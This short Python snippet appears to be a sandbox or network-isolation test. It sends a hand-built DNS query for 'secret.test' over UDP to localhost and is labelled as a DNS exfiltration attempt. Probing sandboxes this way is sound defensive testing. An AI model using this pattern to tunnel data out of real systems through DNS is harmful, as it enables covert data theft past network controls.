# Tries: a datagram to the host, and a question to a name server of its own choice.
# Origin: S7; exfiltration by DNS.

import socket

made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x04test\x00\x00\x01\x00\x01"
made.sendto(question, ("127.0.0.1", input["udp"]))
